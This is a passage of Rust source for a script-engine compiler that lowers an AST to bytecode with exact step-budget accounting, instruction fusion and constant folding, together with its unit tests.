        match returned_expr(&body) {
            Expr::Un { operand, .. } => assert!(matches!(operand.as_ref(), Expr::Ident(_))),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn catch_bindings_stay_by_name_but_count_a_hop() {
        let body = first_fn_body(
            "function f() { var x = 1; try { g(); } catch (e) { return [e, x, function() { return x; }]; } }",
        );
        let arr = match &body[1] {
            Stmt::Try { catch, .. } => match &catch.as_ref().unwrap().1[0] {
                Stmt::Return(Some(Expr::Array(items))) => items.clone(),
                other => panic!("unexpected {other:?}"),
            },
            other => panic!("unexpected {other:?}"),
        };
        // `e` lives in the dynamic catch scope.
        assert!(matches!(&arr[0], Expr::Ident(n) if n.as_ref() == "e"));
        // `x` is one hop up from inside the catch scope.
        assert!(matches!(&arr[1], Expr::Local { depth: 1, .. }));
        // ...and two hops from inside a function defined in the catch.
        let inner = match &arr[2] {
            Expr::Function(def) => def.body.as_ref().clone(),
            other => panic!("unexpected {other:?}"),
        };
        assert!(matches!(
            returned_expr(&inner),
            Expr::Local { depth: 2, .. }
        ));
    }

    #[test]
    fn top_level_code_is_untouched() {
        let p = parse_program("var a = 1; a = a + 1;").unwrap();
        match &p.body[1] {
            Stmt::Expr(Expr::Assign { target, .. }) => {
                assert!(matches!(target.as_ref(), Expr::Ident(_)));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn symbols_are_collected_and_sorted() {
        let p = parse_program("var beta = alpha; function gamma() {}").unwrap();
        let names: Vec<&str> = p.symbols.iter().map(|s| s.as_ref()).collect();
        assert_eq!(names, vec!["alpha", "beta", "gamma"]);
    }
}
