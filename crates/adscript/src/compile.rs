//! AST → bytecode lowering.
//!
//! The compiler is total: every resolved program or function body lowers to
//! a [`Chunk`] (constructs without dedicated ops fall back to
//! [`Op::TreeStmt`]/[`Op::TreeExpr`], which run the retained tree-walk
//! code). Lowering never fails and never observes runtime state, so chunks
//! can be compiled lazily and cached inside [`crate::CompiledScript`] and
//! function definitions.
//!
//! ## Exact step accounting
//!
//! The tree-walk engine charges one budget step at every statement
//! execution and every expression evaluation. The compiler mirrors this
//! with a *pending-charge accumulator*: each lowered node adds its entry
//! charge to `pending`, and the accumulator is discharged before any op
//! that is fallible, effectful, a jump, or a jump target — either as a
//! standalone [`Op::Charge`] (`flush`), or folded into the op's own `pre`
//! operand (`take_pre`), which the VM deducts before the op does anything
//! else. Merging is only ever across infallible, effect-free ops (constant
//! pushes, pure stack shuffles, pure operators), so a budget death under
//! the merged charge is observably identical to the tree-walk dying at
//! whichever sequential step would have failed: same final budget (zero),
//! same error, no visible effect reordered across the merge. Label binds
//! always force a standalone flush: a charge belonging to the fall-through
//! path must never sit after a jump target where an entering path would
//! repeat it.
//!
//! ## Statement-form elision and fusion
//!
//! An assignment or `++`/`--` evaluated as an expression *statement*
//! discards its result, so the compiler skips the `Dup` that would
//! preserve it and the `Pop` that would discard it — both are pure stack
//! shuffles the tree-walk never observes. Hot sequences fuse into
//! superinstructions ([`Op::GetPropName`], [`Op::SetPropName`],
//! [`Op::IncName`], [`Op::BinConst`]) that execute the identical sub-op
//! sequence in one dispatch.
//!
//! Pure numeric literal subtrees are folded at compile time into one
//! constant plus the subtree's total charge — legal for the same reason the
//! merge is: every folded evaluation is infallible and effect-free.

use crate::ast::*;
use crate::bytecode::{CVal, Chunk, LoopRange, Op, NO_IC};
use std::collections::HashMap;
use std::sync::Arc;

/// Lowers a program body to a global chunk.
pub(crate) fn compile_program(program: &Program) -> Chunk {
    Compiler::new(ScopeInfo::default(), true).compile_body(&program.body)
}

/// Lowers a function body to a function chunk laid out by its scope.
pub(crate) fn compile_fn(def: &FnDef) -> Chunk {
    Compiler::new(def.scope.as_ref().clone(), false).compile_body(&def.body)
}

/// Compile-time loop context: patch lists for `break`/`continue` jumps plus
/// the body range recorded for dynamic flow redirection.
struct LoopCtx {
    brk_patches: Vec<usize>,
    cont_patches: Vec<usize>,
}

struct Compiler {
    scope: ScopeInfo,
    global: bool,
    ops: Vec<Op>,
    consts: Vec<CVal>,
    const_map: HashMap<ConstKey, u32>,
    names: Vec<Name>,
    name_map: HashMap<Name, u32>,
    fns: Vec<Arc<FnDef>>,
    tree_stmts: Vec<Stmt>,
    tree_exprs: Vec<Expr>,
    ranges: Vec<LoopRange>,
    ic_count: u32,
    pending: u32,
    loops: Vec<LoopCtx>,
}

#[derive(PartialEq, Eq, Hash)]
enum ConstKey {
    Num(u64),
    Str(String),
}

impl Compiler {
    fn new(scope: ScopeInfo, global: bool) -> Self {
        Compiler {
            scope,
            global,
            ops: Vec::new(),
            consts: Vec::new(),
            const_map: HashMap::new(),
            names: Vec::new(),
            name_map: HashMap::new(),
            fns: Vec::new(),
            tree_stmts: Vec::new(),
            tree_exprs: Vec::new(),
            ranges: Vec::new(),
            ic_count: 0,
            pending: 0,
            loops: Vec::new(),
        }
    }

    fn compile_body(mut self, body: &[Stmt]) -> Chunk {
        self.hoist(body);
        for stmt in body {
            self.stmt(stmt);
        }
        self.flush();
        Chunk {
            ops: self.ops,
            consts: self.consts,
            names: self.names,
            fns: self.fns,
            tree_stmts: self.tree_stmts,
            tree_exprs: self.tree_exprs,
            ranges: self.ranges,
            ic_count: self.ic_count,
            global: self.global,
        }
    }

    // ----- emission helpers ------------------------------------------------

    fn charge(&mut self, n: u32) {
        self.pending += n;
    }

    /// Emits the accumulated charge as a standalone [`Op::Charge`]. Used
    /// before label binds (mandatory — see the module docs) and before ops
    /// without a `pre` operand.
    fn flush(&mut self) {
        if self.pending > 0 {
            let n = self.pending;
            self.ops.push(Op::Charge(n));
            self.pending = 0;
        }
    }

    /// Takes the accumulated charge for folding into the next op's `pre`
    /// operand. Only valid when that op is emitted immediately — never
    /// across a label bind, where [`Self::flush`] must keep the charge out
    /// of the jump-target region.
    fn take_pre(&mut self) -> u32 {
        std::mem::take(&mut self.pending)
    }

    fn emit(&mut self, op: Op) {
        self.ops.push(op);
    }

    fn here(&self) -> u32 {
        self.ops.len() as u32
    }

    /// Emits a jump-family op with a placeholder target; returns the patch
    /// site. The caller must have discharged `pending` (folded or flushed).
    fn jump(&mut self, make: impl FnOnce(u32) -> Op) -> usize {
        self.ops.push(make(u32::MAX));
        self.ops.len() - 1
    }

    fn patch(&mut self, site: usize, target: u32) {
        match &mut self.ops[site] {
            Op::Jump { t, .. }
            | Op::JumpIfFalse { t, .. }
            | Op::JumpIfTrue { t, .. }
            | Op::JumpTruthyKeep { t, .. }
            | Op::JumpFalsyKeep { t, .. } => *t = target,
            other => unreachable!("patching non-jump op {other:?}"),
        }
    }

    fn const_idx(&mut self, v: CVal) -> u32 {
        let key = match &v {
            CVal::Num(n) => ConstKey::Num(n.to_bits()),
            CVal::Str(s) => ConstKey::Str(s.to_string()),
        };
        if let Some(&i) = self.const_map.get(&key) {
            return i;
        }
        let i = self.consts.len() as u32;
        self.consts.push(v);
        self.const_map.insert(key, i);
        i
    }

    fn name_idx(&mut self, name: &Name) -> u32 {
        if let Some(&i) = self.name_map.get(name) {
            return i;
        }
        let i = self.names.len() as u32;
        self.names.push(name.clone());
        self.name_map.insert(name.clone(), i);
        i
    }

    fn fn_idx(&mut self, def: &Arc<FnDef>) -> u32 {
        let i = self.fns.len() as u32;
        self.fns.push(def.clone());
        i
    }

    fn new_ic(&mut self) -> u32 {
        let i = self.ic_count;
        self.ic_count += 1;
        i
    }

    /// Inline-cache slot for global-binding ops: sound in program chunks
    /// (which always execute in the root environment) and in function
    /// chunks whose resolver proved every free name binds globally.
    fn global_ic(&mut self) -> u32 {
        if self.global || self.scope.globals_safe {
            self.new_ic()
        } else {
            NO_IC
        }
    }

    /// Function hoisting at a body/block entry: uncharged `DeclFn` ops, in
    /// source order, exactly like the tree-walk's hoisting pass.
    fn hoist(&mut self, body: &[Stmt]) {
        for stmt in body {
            if let Stmt::FnDecl(def) = stmt {
                let i = self.fn_idx(def);
                self.flush();
                self.emit(Op::DeclFn(i));
            }
        }
    }

    // ----- statements ------------------------------------------------------

    fn stmt(&mut self, stmt: &Stmt) {
        self.charge(1); // `exec` entry.
        match stmt {
            Stmt::Empty | Stmt::FnDecl(_) => {}
            Stmt::Var(decls) => {
                for (name, init) in decls {
                    match init {
                        Some(e) => self.expr(e),
                        // No initializer: no evaluation, no charge.
                        None => self.emit(Op::Undef),
                    }
                    self.flush();
                    match self.scope.slot_of(name) {
                        Some(slot) => self.emit(Op::DeclSlot(slot as u32)),
                        None => {
                            let i = self.name_idx(name);
                            self.emit(Op::DeclName(i));
                        }
                    }
                }
            }
            Stmt::Expr(e) => self.expr_discard(e),
            Stmt::Block(body) => {
                self.hoist(body);
                for s in body {
                    self.stmt(s);
                }
            }
            Stmt::If { cond, then, alt } => {
                self.expr(cond);
                let pre = self.take_pre();
                let jf = self.jump(|t| Op::JumpIfFalse { t, pre });
                self.stmt(then);
                match alt {
                    Some(alt) => {
                        let pre = self.take_pre();
                        let jend = self.jump(|t| Op::Jump { t, pre });
                        let else_lbl = self.here();
                        self.patch(jf, else_lbl);
                        self.stmt(alt);
                        self.flush();
                        let end = self.here();
                        self.patch(jend, end);
                    }
                    None => {
                        self.flush();
                        let end = self.here();
                        self.patch(jf, end);
                    }
                }
            }
            Stmt::While { cond, body } => {
                self.flush();
                let cond_lbl = self.here();
                self.expr(cond);
                let pre = self.take_pre();
                let jf = self.jump(|t| Op::JumpIfFalse { t, pre });
                let body_start = self.here();
                self.loops.push(LoopCtx {
                    brk_patches: Vec::new(),
                    cont_patches: Vec::new(),
                });
                self.stmt(body);
                let pre = self.take_pre();
                let body_end = self.here();
                self.emit(Op::Jump { t: cond_lbl, pre });
                let end = self.here();
                self.patch(jf, end);
                self.finish_loop(body_start, body_end, end, cond_lbl);
            }
            Stmt::DoWhile { body, cond } => {
                self.flush();
                let body_start = self.here();
                self.loops.push(LoopCtx {
                    brk_patches: Vec::new(),
                    cont_patches: Vec::new(),
                });
                self.stmt(body);
                self.flush();
                let body_end = self.here();
                let cond_lbl = self.here();
                self.expr(cond);
                let pre = self.take_pre();
                let jt = self.jump(|t| Op::JumpIfTrue { t, pre });
                self.patch(jt, body_start);
                let end = self.here();
                self.finish_loop(body_start, body_end, end, cond_lbl);
            }
            Stmt::For {
                init,
                cond,
                update,
                body,
            } => {
                if let Some(init) = init {
                    self.stmt(init);
                }
                self.flush();
                let cond_lbl = self.here();
                let jf = cond.as_ref().map(|cond| {
                    self.expr(cond);
                    let pre = self.take_pre();
                    self.jump(|t| Op::JumpIfFalse { t, pre })
                });
                let body_start = self.here();
                self.loops.push(LoopCtx {
                    brk_patches: Vec::new(),
                    cont_patches: Vec::new(),
                });
                self.stmt(body);
                self.flush();
                let body_end = self.here();
                let update_lbl = self.here();
                if let Some(update) = update {
                    self.expr_discard(update);
                }
                let pre = self.take_pre();
                self.emit(Op::Jump { t: cond_lbl, pre });
                let end = self.here();
                if let Some(jf) = jf {
                    self.patch(jf, end);
                }
                self.finish_loop(body_start, body_end, end, update_lbl);
            }
            Stmt::Switch { .. } | Stmt::ForIn { .. } | Stmt::Try { .. } => {
                // Tree-walked wholesale; `exec` charges at entry itself.
                self.pending -= 1;
                self.flush();
                let i = self.tree_stmts.len() as u32;
                self.tree_stmts.push(stmt.clone());
                self.emit(Op::TreeStmt(i));
            }
            Stmt::Return(e) => {
                match e {
                    Some(e) => self.expr(e),
                    None => self.emit(Op::Undef),
                }
                let pre = self.take_pre();
                self.emit(Op::Ret { pre });
            }
            Stmt::Break => {
                if self.loops.is_empty() {
                    self.flush();
                    self.emit(Op::FlowBreak);
                } else {
                    let pre = self.take_pre();
                    let site = self.jump(|t| Op::Jump { t, pre });
                    self.loops
                        .last_mut()
                        .expect("loop context")
                        .brk_patches
                        .push(site);
                }
            }
            Stmt::Continue => {
                if self.loops.is_empty() {
                    self.flush();
                    self.emit(Op::FlowContinue);
                } else {
                    let pre = self.take_pre();
                    let site = self.jump(|t| Op::Jump { t, pre });
                    self.loops
                        .last_mut()
                        .expect("loop context")
                        .cont_patches
                        .push(site);
                }
            }
            Stmt::Throw(e) => {
                self.expr(e);
                self.flush();
                self.emit(Op::ThrowOp);
            }
        }
    }

    /// Patches a finished loop's break/continue jumps and records the body
    /// range for dynamic flow redirection.
    fn finish_loop(&mut self, body_start: u32, body_end: u32, brk: u32, cont: u32) {
        let ctx = self.loops.pop().expect("loop context");
        for site in ctx.brk_patches {
            self.patch(site, brk);
        }
        for site in ctx.cont_patches {
            self.patch(site, cont);
        }
        self.ranges.push(LoopRange {
            start: body_start,
            end: body_end,
            brk,
            cont,
        });
    }

    // ----- expressions -----------------------------------------------------

    /// Lowers an expression evaluated for effect only (expression
    /// statement, `for` update): assignments and `++`/`--` skip the pure
    /// stack shuffles that would preserve and then discard their result.
    fn expr_discard(&mut self, e: &Expr) {
        match e {
            Expr::Assign { target, op, value } => {
                self.charge(1); // `eval` entry.
                self.assign(target, *op, value, false);
            }
            Expr::IncDec {
                target,
                delta,
                prefix,
            } => {
                self.charge(1); // `eval` entry.
                self.inc_dec(e, target, *delta, *prefix, false);
            }
            _ => {
                self.expr(e);
                self.emit(Op::Pop);
            }
        }
    }

    fn expr(&mut self, e: &Expr) {
        // Pure numeric subtree: one constant, the subtree's total charge.
        if let Some((v, steps)) = fold_num(e) {
            self.charge(steps);
            let i = self.const_idx(CVal::Num(v));
            self.emit(Op::Const(i));
            return;
        }
        self.charge(1); // `eval` entry.
        match e {
            Expr::Num(n) => {
                let i = self.const_idx(CVal::Num(*n));
                self.emit(Op::Const(i));
            }
            Expr::Str(s) => {
                let i = self.const_idx(CVal::Str(Arc::from(s.as_str())));
                self.emit(Op::Const(i));
            }
            Expr::Bool(true) => self.emit(Op::True),
            Expr::Bool(false) => self.emit(Op::False),
            Expr::Null => self.emit(Op::Null),
            Expr::Undefined => self.emit(Op::Undef),
            // `this` resolution is infallible and effect-free: charges
            // merge across it like any pure push.
            Expr::This => self.emit(Op::This),
            Expr::Ident(name) => {
                let i = self.name_idx(name);
                let ic = self.global_ic();
                let pre = self.take_pre();
                self.emit(Op::LoadName { name: i, ic, pre });
            }
            Expr::Local { name, depth, slot } => {
                let i = self.name_idx(name);
                let pre = self.take_pre();
                self.emit(Op::LoadLocal {
                    depth: *depth,
                    slot: *slot,
                    name: i,
                    pre,
                });
            }
            Expr::Array(items) => {
                for item in items {
                    self.expr(item);
                }
                self.flush();
                self.emit(Op::MakeArray(items.len() as u32));
            }
            Expr::Object(props) => {
                self.flush();
                self.emit(Op::MakeObject);
                for (k, v) in props {
                    self.expr(v);
                    let i = self.name_idx(k);
                    self.flush();
                    self.emit(Op::ObjInsert(i));
                }
            }
            Expr::Function(def) => {
                let i = self.fn_idx(def);
                self.flush();
                self.emit(Op::Closure(i));
            }
            Expr::Assign { target, op, value } => self.assign(target, *op, value, true),
            Expr::Cond { cond, then, alt } => {
                self.expr(cond);
                let pre = self.take_pre();
                let jf = self.jump(|t| Op::JumpIfFalse { t, pre });
                self.expr(then);
                let pre = self.take_pre();
                let jend = self.jump(|t| Op::Jump { t, pre });
                let alt_lbl = self.here();
                self.patch(jf, alt_lbl);
                self.expr(alt);
                self.flush();
                let end = self.here();
                self.patch(jend, end);
            }
            Expr::Or(a, b) => {
                self.expr(a);
                let pre = self.take_pre();
                let j = self.jump(|t| Op::JumpTruthyKeep { t, pre });
                self.expr(b);
                self.flush();
                let end = self.here();
                self.patch(j, end);
            }
            Expr::And(a, b) => {
                self.expr(a);
                let pre = self.take_pre();
                let j = self.jump(|t| Op::JumpFalsyKeep { t, pre });
                self.expr(b);
                self.flush();
                let end = self.here();
                self.patch(j, end);
            }
            Expr::Bin { op, lhs, rhs } => {
                self.expr(lhs);
                // Constant right operand: fuse the push into the operator.
                // Every binary operator is infallible and effect-free:
                // charges keep merging across both forms.
                if let Some((v, steps)) = fold_num(rhs) {
                    self.charge(steps);
                    let idx = self.const_idx(CVal::Num(v));
                    self.emit(Op::BinConst { op: *op, idx });
                } else {
                    self.expr(rhs);
                    self.emit(Op::Bin(*op));
                }
            }
            Expr::Un { op, operand } => match op {
                UnOp::Typeof => {
                    if let Expr::Ident(name) = operand.as_ref() {
                        let i = self.name_idx(name);
                        self.flush();
                        self.emit(Op::TypeofName(i));
                    } else {
                        self.expr(operand);
                        self.emit(Op::TypeofVal);
                    }
                }
                UnOp::Delete => {
                    // The tree-walk evaluates the operand (a property read,
                    // with its effects and throws) and yields `true`.
                    self.expr(operand);
                    self.emit(Op::Pop);
                    self.emit(Op::True);
                }
                UnOp::Void => {
                    self.expr(operand);
                    self.emit(Op::Pop);
                    self.emit(Op::Undef);
                }
                UnOp::Neg => {
                    self.expr(operand);
                    self.emit(Op::UnNeg);
                }
                UnOp::Pos => {
                    self.expr(operand);
                    self.emit(Op::UnPos);
                }
                UnOp::Not => {
                    self.expr(operand);
                    self.emit(Op::UnNot);
                }
                UnOp::BitNot => {
                    self.expr(operand);
                    self.emit(Op::UnBitNot);
                }
            },
            Expr::IncDec {
                target,
                delta,
                prefix,
            } => self.inc_dec(e, target, *delta, *prefix, true),
            Expr::Member { object, prop } => {
                let p = self.name_idx(prop);
                if let Expr::Ident(name) = object.as_ref() {
                    // Fused `ident.prop`: the identifier's entry charge
                    // joins the pre-charge, exactly like the unfused
                    // `Charge`/`LoadName`/`GetProp` sequence (no charge
                    // sits between the load and the property read there
                    // either — both belong to the same flush).
                    self.charge(1);
                    let n = self.name_idx(name);
                    let name_ic = self.global_ic();
                    let prop_ic = self.new_ic();
                    let pre = self.take_pre();
                    self.emit(Op::GetPropName {
                        name: n,
                        name_ic,
                        prop: p,
                        prop_ic,
                        pre,
                    });
                } else {
                    self.expr(object);
                    let ic = self.new_ic();
                    let pre = self.take_pre();
                    self.emit(Op::GetProp { name: p, ic, pre });
                }
            }
            Expr::Index { object, index } => {
                self.expr(object);
                self.expr(index);
                let pre = self.take_pre();
                self.emit(Op::GetIndex { pre });
            }
            Expr::Call { callee, args } => match callee.as_ref() {
                Expr::Member { object, prop } => {
                    self.expr(object);
                    let i = self.name_idx(prop);
                    let ic = self.new_ic();
                    let pre = self.take_pre();
                    self.emit(Op::GetMethod { name: i, ic, pre });
                    for a in args {
                        self.expr(a);
                    }
                    let pre = self.take_pre();
                    self.emit(Op::CallMethod {
                        argc: args.len() as u32,
                        pre,
                    });
                }
                Expr::Index { object, index } => {
                    self.expr(object);
                    self.expr(index);
                    let pre = self.take_pre();
                    self.emit(Op::GetMethodIndex { pre });
                    for a in args {
                        self.expr(a);
                    }
                    let pre = self.take_pre();
                    self.emit(Op::CallMethod {
                        argc: args.len() as u32,
                        pre,
                    });
                }
                other => {
                    self.expr(other);
                    for a in args {
                        self.expr(a);
                    }
                    let pre = self.take_pre();
                    self.emit(Op::Call {
                        argc: args.len() as u32,
                        pre,
                    });
                }
            },
            Expr::New { .. } => {
                // Host-constructor dispatch and the fall-through rules are
                // intricate and rare: tree-walk the whole expression. `eval`
                // charges at entry itself.
                self.pending -= 1;
                self.tree_expr(e);
            }
            Expr::Seq(a, b) => {
                self.expr(a);
                self.emit(Op::Pop);
                self.expr(b);
            }
        }
    }

    fn tree_expr(&mut self, e: &Expr) {
        self.flush();
        let i = self.tree_exprs.len() as u32;
        self.tree_exprs.push(e.clone());
        self.emit(Op::TreeExpr(i));
    }

    /// Lowers `target op= value`. The entry charge for the assignment node
    /// has already been added by the caller. With `keep` unset (statement
    /// form) the result value is neither duplicated nor left on the stack.
    fn assign(&mut self, target: &Expr, op: AssignOp, value: &Expr, keep: bool) {
        let bin = match op {
            AssignOp::Assign => None,
            AssignOp::Add => Some(BinOp::Add),
            AssignOp::Sub => Some(BinOp::Sub),
            AssignOp::Mul => Some(BinOp::Mul),
            AssignOp::Div => Some(BinOp::Div),
            AssignOp::Mod => Some(BinOp::Mod),
        };
        match target {
            Expr::Ident(name) => {
                self.expr(value);
                let i = self.name_idx(name);
                let ic_load = self.global_ic();
                let ic_store = self.global_ic();
                if let Some(bin) = bin {
                    self.charge(1); // old-value target evaluation.
                    let pre = self.take_pre();
                    self.emit(Op::LoadName {
                        name: i,
                        ic: ic_load,
                        pre,
                    });
                    self.emit(Op::Swap);
                    self.emit(Op::Bin(bin));
                }
                if keep {
                    self.emit(Op::Dup);
                }
                let pre = self.take_pre();
                self.emit(Op::StoreName {
                    name: i,
                    ic: ic_store,
                    pre,
                });
            }
            Expr::Local { name, depth, slot } => {
                self.expr(value);
                let i = self.name_idx(name);
                if let Some(bin) = bin {
                    self.charge(1);
                    let pre = self.take_pre();
                    self.emit(Op::LoadLocal {
                        depth: *depth,
                        slot: *slot,
                        name: i,
                        pre,
                    });
                    self.emit(Op::Swap);
                    self.emit(Op::Bin(bin));
                }
                if keep {
                    self.emit(Op::Dup);
                }
                let pre = self.take_pre();
                self.emit(Op::StoreLocal {
                    depth: *depth,
                    slot: *slot,
                    name: i,
                    pre,
                });
            }
            Expr::Member { object, prop } => {
                self.expr(value);
                let i = self.name_idx(prop);
                if let Some(bin) = bin {
                    self.charge(1); // old-value target evaluation...
                    self.member_read(object, i); // ...re-evaluating the object.
                    self.emit(Op::Swap);
                    self.emit(Op::Bin(bin));
                }
                if keep {
                    self.emit(Op::Dup);
                }
                if let Expr::Ident(name) = object.as_ref() {
                    self.charge(1); // object identifier evaluation.
                    let n = self.name_idx(name);
                    let name_ic = self.global_ic();
                    let prop_ic = self.new_ic();
                    let pre = self.take_pre();
                    self.emit(Op::SetPropName {
                        name: n,
                        name_ic,
                        prop: i,
                        prop_ic,
                        pre,
                    });
                } else {
                    self.expr(object);
                    let ic = self.new_ic();
                    let pre = self.take_pre();
                    self.emit(Op::SetProp { name: i, ic, pre });
                }
            }
            Expr::Index { object, index } => {
                self.expr(value);
                if let Some(bin) = bin {
                    self.charge(1);
                    self.expr(object);
                    self.expr(index);
                    let pre = self.take_pre();
                    self.emit(Op::GetIndex { pre });
                    self.emit(Op::Swap);
                    self.emit(Op::Bin(bin));
                }
                if keep {
                    self.emit(Op::Dup);
                }
                self.expr(object);
                self.expr(index);
                let pre = self.take_pre();
                self.emit(Op::SetIndex { pre });
            }
            _ => {
                // Invalid assignment target: the tree-walk raises the fatal
                // error; run the whole node there. Undo the entry charge —
                // the tree-walk charges it itself.
                self.pending -= 1;
                self.tree_expr(&Expr::Assign {
                    target: Box::new(target.clone()),
                    op,
                    value: Box::new(value.clone()),
                });
                if !keep {
                    self.emit(Op::Pop);
                }
            }
        }
    }

    /// Emits a property read of `names[prop]` from `object`, fusing the
    /// identifier-receiver form. The object's evaluation charge is added
    /// here; the caller has accounted for the surrounding node.
    fn member_read(&mut self, object: &Expr, prop: u32) {
        if let Expr::Ident(name) = object {
            self.charge(1); // object identifier evaluation.
            let n = self.name_idx(name);
            let name_ic = self.global_ic();
            let prop_ic = self.new_ic();
            let pre = self.take_pre();
            self.emit(Op::GetPropName {
                name: n,
                name_ic,
                prop,
                prop_ic,
                pre,
            });
        } else {
            self.expr(object);
            let ic = self.new_ic();
            let pre = self.take_pre();
            self.emit(Op::GetProp {
                name: prop,
                ic,
                pre,
            });
        }
    }

    /// Lowers `++`/`--`. Entry charge already added by the caller. With
    /// `keep` unset (statement form) the result value is discarded — the
    /// identifier form fuses into a single [`Op::IncName`].
    fn inc_dec(&mut self, whole: &Expr, target: &Expr, delta: i8, prefix: bool, keep: bool) {
        let inc = Op::IncDec { delta, prefix };
        match target {
            Expr::Ident(name) => {
                let i = self.name_idx(name);
                let ic_load = self.global_ic();
                let ic_store = self.global_ic();
                self.charge(1); // old-value target evaluation.
                if keep {
                    let pre = self.take_pre();
                    self.emit(Op::LoadName {
                        name: i,
                        ic: ic_load,
                        pre,
                    });
                    self.emit(inc);
                    let pre = self.take_pre();
                    self.emit(Op::StoreName {
                        name: i,
                        ic: ic_store,
                        pre,
                    });
                } else {
                    let pre = self.take_pre();
                    self.emit(Op::IncName {
                        name: i,
                        load_ic: ic_load,
                        store_ic: ic_store,
                        delta,
                        pre,
                    });
                }
            }
            Expr::Local { name, depth, slot } => {
                let i = self.name_idx(name);
                self.charge(1);
                let pre = self.take_pre();
                self.emit(Op::LoadLocal {
                    depth: *depth,
                    slot: *slot,
                    name: i,
                    pre,
                });
                self.emit(inc);
                let pre = self.take_pre();
                self.emit(Op::StoreLocal {
                    depth: *depth,
                    slot: *slot,
                    name: i,
                    pre,
                });
                if !keep {
                    self.emit(Op::Pop);
                }
            }
            Expr::Member { object, prop } => {
                let i = self.name_idx(prop);
                self.charge(1);
                self.member_read(object, i);
                self.emit(inc);
                if let Expr::Ident(name) = object.as_ref() {
                    self.charge(1); // object identifier re-evaluation.
                    let n = self.name_idx(name);
                    let name_ic = self.global_ic();
                    let prop_ic = self.new_ic();
                    let pre = self.take_pre();
                    self.emit(Op::SetPropName {
                        name: n,
                        name_ic,
                        prop: i,
                        prop_ic,
                        pre,
                    });
                } else {
                    self.expr(object);
                    let ic_set = self.new_ic();
                    let pre = self.take_pre();
                    self.emit(Op::SetProp {
                        name: i,
                        ic: ic_set,
                        pre,
                    });
                }
                if !keep {
                    self.emit(Op::Pop);
                }
            }
            Expr::Index { object, index } => {
                self.charge(1);
                self.expr(object);
                self.expr(index);
                let pre = self.take_pre();
                self.emit(Op::GetIndex { pre });
                self.emit(inc);
                self.expr(object);
                self.expr(index);
                let pre = self.take_pre();
                self.emit(Op::SetIndex { pre });
                if !keep {
                    self.emit(Op::Pop);
                }
            }
            _ => {
                // Non-lvalue target: the tree-walk evaluates it and then
                // fails the assignment; defer the whole node.
                self.pending -= 1;
                self.tree_expr(whole);
                if !keep {
                    self.emit(Op::Pop);
                }
            }
        }
    }
}

/// Folds a pure numeric-literal subtree, returning its value and the number
/// of evaluation steps the tree-walk would charge for it.
fn fold_num(e: &Expr) -> Option<(f64, u32)> {
    match e {
        Expr::Num(n) => Some((*n, 1)),
        Expr::Bin { op, lhs, rhs } => {
            let (l, cl) = fold_num(lhs)?;
            let (r, cr) = fold_num(rhs)?;
            let v = match op {
                // Number + number never concatenates.
                BinOp::Add => l + r,
                BinOp::Sub => l - r,
                BinOp::Mul => l * r,
                BinOp::Div => l / r,
                BinOp::Mod => l % r,
                _ => return None,
            };
            Some((v, 1 + cl + cr))
        }
        Expr::Un { op, operand } => {
            let (v, c) = fold_num(operand)?;
            let v = match op {
                UnOp::Neg => -v,
                UnOp::Pos => v,
                _ => return None,
            };
            Some((v, 1 + c))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::parse_program;

    fn compile(src: &str) -> Chunk {
        compile_program(&parse_program(src).unwrap())
    }

    /// Total step charge across the chunk: standalone `Charge` ops plus
    /// every folded `pre` operand.
    fn total_charge(chunk: &Chunk) -> u32 {
        chunk.ops.iter().map(Op::pre_charge).sum()
    }

    #[test]
    fn literal_arithmetic_folds_to_one_constant() {
        let chunk = compile("out = 1 + 2 * 3;");
        // No Bin ops survive folding.
        assert!(!chunk.ops.iter().any(|op| matches!(op, Op::Bin(_))));
        assert!(chunk.consts.contains(&CVal::Num(7.0)));
        // The fold preserves the full charge: stmt(1) + assign(1) +
        // three numeric evals + two binary evals = 7.
        assert_eq!(total_charge(&chunk), 7);
    }

    #[test]
    fn while_loop_records_body_range() {
        let chunk = compile("var i = 0; while (i < 3) { i = i + 1; }");
        assert_eq!(chunk.ranges.len(), 1);
        let r = chunk.ranges[0];
        assert!(r.start < r.end);
        assert!(r.brk > r.end);
    }

    #[test]
    fn break_compiles_to_a_direct_jump() {
        let chunk = compile("while (true) { break; }");
        assert!(!chunk.ops.iter().any(|op| matches!(op, Op::FlowBreak)));
        assert!(chunk.ops.iter().any(|op| matches!(op, Op::Jump { .. })));
    }

    #[test]
    fn top_level_break_is_a_flow_signal() {
        let chunk = compile("break;");
        assert!(chunk.ops.iter().any(|op| matches!(op, Op::FlowBreak)));
    }

    #[test]
    fn try_and_switch_defer_to_the_tree_walk() {
        let chunk = compile("try { x = 1; } catch (e) { } switch (1) { case 1: break; }");
        assert_eq!(chunk.tree_stmts.len(), 2);
        assert_eq!(
            chunk
                .ops
                .iter()
                .filter(|op| matches!(op, Op::TreeStmt(_)))
                .count(),
            2
        );
    }

    #[test]
    fn global_loads_get_inline_caches_in_program_chunks() {
        let chunk = compile("out = out + seen;");
        assert!(chunk.global);
        let ics: Vec<u32> = chunk
            .ops
            .iter()
            .filter_map(|op| match op {
                Op::LoadName { ic, .. } | Op::StoreName { ic, .. } => Some(*ic),
                _ => None,
            })
            .collect();
        assert!(!ics.is_empty());
        assert!(ics.iter().all(|&ic| ic != NO_IC));
    }

    #[test]
    fn constants_are_deduplicated() {
        let chunk = compile("a = 'x'; b = 'x'; c = 'x';");
        let strs = chunk
            .consts
            .iter()
            .filter(|c| matches!(c, CVal::Str(_)))
            .count();
        assert_eq!(strs, 1);
    }

    #[test]
    fn ident_property_access_fuses_with_identical_charges() {
        let fused = compile("q = o.a + o.b; o.c = q; o.n++;");
        assert!(fused
            .ops
            .iter()
            .any(|op| matches!(op, Op::GetPropName { .. })));
        assert!(fused
            .ops
            .iter()
            .any(|op| matches!(op, Op::SetPropName { .. })));
        assert!(!fused.ops.iter().any(|op| matches!(op, Op::GetProp { .. })));
        // Parenthesized receivers compile identically in the tree-walk but
        // the fusion only matches the bare-identifier AST shape, giving the
        // unfused lowering of the same source — charges must match.
        let unfused = compile("q = (0, o).a + (0, o).b; (0, o).c = q; (0, o).n++;");
        // Each `(0, o)` adds one Seq eval + one folded `0` = 2 extra steps.
        // The inc/dec statement emits its object twice (read + write back),
        // so the four source occurrences become five emitted ones.
        assert_eq!(total_charge(&unfused), total_charge(&fused) + 2 * 5);
    }

    #[test]
    fn statement_form_assignment_elides_dup_and_pop() {
        let chunk = compile("x = 1; x += 2; x++;");
